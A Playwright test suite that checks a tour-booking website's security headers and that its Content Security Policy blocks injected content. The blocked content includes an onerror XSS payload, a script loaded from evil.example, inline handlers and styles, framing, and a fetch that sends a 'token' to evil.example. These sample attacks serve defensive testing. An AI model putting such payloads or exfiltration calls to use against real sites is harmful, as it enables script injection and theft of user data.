import type { Page } from '@playwright/test';
import { expect, site, test } from '../support/test.ts';

const ANSWERS: [string, number][] = [
  ['/', 200],
  ['/en/group-tour/17', 200],
  ['/booking/17', 200],
  ['/account', 200],
  ['/auth/sign-in', 200],
  ['/no-such-page', 404],
  ['/group-tour/9999', 404],
  ['/sitemap.xml', 200],
  ['/robots.txt', 200],
  ['/og/tour/17.png', 200],
];

for (const [path, status] of ANSWERS) {
  test(`${path} says what a browser may do with it`, async ({ request }) => {
    const answer = await request.get(path, { maxRedirects: 0 });
    expect(answer.status()).toBe(status);
    const headers = answer.headers();
    const policy = new Map(
      headers['content-security-policy']?.split('; ').map((line) => {
        const [name = '', ...values] = line.split(' ');
        return [name, values.join(' ')];
      }),
    );
    expect(Object.fromEntries(policy)).toMatchObject({
      'default-src': "'self'",
      'object-src': "'none'",
      'worker-src': "'none'",
      'script-src': "'self'",
      'base-uri': "'none'",
      'frame-ancestors': "'none'",
      'require-trusted-types-for': "'script'",
    });
    expect(policy.get('style-src')).toMatch(/^'self'( 'sha256-[\w+/=]{44}'){10,}$/);
    expect(headers).toMatchObject({
      'x-content-type-options': 'nosniff',
      'x-frame-options': 'DENY',
      'referrer-policy': 'strict-origin-when-cross-origin',
      'cross-origin-opener-policy': 'same-origin',
    });
    expect(headers['permissions-policy']).toContain('camera=()');
  });
}

test('what is no page runs nothing and is in no frame, nor what stands where there is none', async ({ request }) => {
  const build = (await (await request.get('/')).text()).match(/"buildId":"([^"]+)"/)?.[1];
  const picture = (await (await request.get('/blog')).text()).match(/\/_next\/image\?[^" ]+/)?.[0];
  const files: [string | undefined, number][] = [
    [`/_next/data/${build}/id/blog.json`, 200],
    [picture?.replaceAll('&amp;', '&'), 200],
    ['/_next/image?url=nothing', 400],
    ['/_next/static/none.js', 404],
    ['/images/none.svg', 404],
    ['/fonts/none.woff2', 404],
  ];
  for (const [file = '', status] of files) {
    const answer = await request.get(file);
    expect([file, answer.status()]).toEqual([file, status]);
    expect(answer.headers()['content-security-policy'], file).toMatch(
      /^default-src 'none'; frame-ancestors 'none'(; sandbox)?$/,
    );
    expect(answer.headers(), file).toMatchObject({
      'x-content-type-options': 'nosniff',
      'cross-origin-resource-policy': 'same-origin',
    });
  }
});

test('files that a page names are what they say, and of this site', async ({ request }) => {
  const html = await (await request.get('/')).text();
  const files = [...new Set(html.match(/\/_next\/static\/[\w./-]+\.(?:js|css|woff2)/g))];
  expect(files.length).toBeGreaterThan(5);
  for (const file of [...files, '/images/favicon.svg']) {
    expect((await request.get(file)).headers(), file).toMatchObject({
      'content-security-policy': "default-src 'none'; frame-ancestors 'none'",
      'x-content-type-options': 'nosniff',
      'cross-origin-resource-policy': 'same-origin',
    });
  }
});

test.describe('what somebody managed to write into a page', () => {
  test.use({ expectsPolicy: true });

  /** Does this in the page; the directives that refused something of it, and whether any of it ran. */
  async function tryIn(page: Page, act: () => void) {
    await page.evaluate(() => {
      window.refused = [];
      document.addEventListener('securitypolicyviolation', (event) => window.refused.push(event.effectiveDirective));
    });
    // Some of it throws, which is as good.
    await page.evaluate(act).catch(() => undefined);
    await expect.poll(() => page.evaluate(() => window.refused.length)).toBeGreaterThan(0);
    return page.evaluate(() => ({ refused: [...new Set(window.refused)], ran: 'hasRun' in window }));
  }

  test.beforeEach(({ page }) => page.goto('/blog'));

  test('text does not become HTML', async ({ page }) => {
    const markup = () => {
      document.body.innerHTML = '<img src="/nothing" onerror="window.hasRun = true">';
    };
    expect(await tryIn(page, markup)).toEqual({ refused: ['require-trusted-types-for'], ran: false });
    await expect(page.getByRole('heading', { level: 1 })).toBeVisible();
  });

  test('a script of another place is not loaded', async ({ page }) => {
    const script = () => {
      document.head.append(Object.assign(document.createElement('script'), { src: 'https://evil.example/a.js' }));
    };
    expect(await tryIn(page, script)).toEqual({ refused: ['require-trusted-types-for'], ran: false });
  });

  test('a handler written into an element does not run', async ({ page }) => {
    const handler = () => {
      const image = document.createElement('img');
      image.setAttribute('onerror', 'window.hasRun = true');
      image.src = '/nothing';
      document.body.append(image);
    };
    expect(await tryIn(page, handler)).toEqual({ refused: ['require-trusted-types-for'], ran: false });
  });

  test('nothing is told to another host', async ({ page }) => {
    const telling = () => fetch('https://evil.example/', { method: 'POST', body: 'token' }).then(() => undefined);
    expect(await tryIn(page, telling as () => void)).toEqual({ refused: ['connect-src'], ran: false });
  });

  test('a style written into an element does not count', async ({ page }) => {
    const style = () => document.querySelector('h1')?.setAttribute('style', 'color: rgb(1, 2, 3)');
    expect((await tryIn(page, style as () => void)).refused).toEqual(['style-src-attr']);
    await expect(page.getByRole('heading', { level: 1 })).not.toHaveCSS('color', 'rgb(1, 2, 3)');
  });

  test('a style element of another text does not count', async ({ page }) => {
    const style = () => document.head.append(Object.assign(document.createElement('style'), { textContent: 'h1{}' }));
    expect((await tryIn(page, style as () => void)).refused).toEqual(['style-src-elem']);
  });

  test('no other page may show this one in a frame', async ({ page }) => {
    await page.goto('about:blank');
    await page.setContent(`<iframe src="${site}/blog"></iframe>`);
    await page.waitForLoadState('networkidle');
    await expect(page.frameLocator('iframe').getByRole('heading', { level: 1 })).toHaveCount(0);
  });
});

declare global {
  interface Window {
    refused: string[];
  }
}
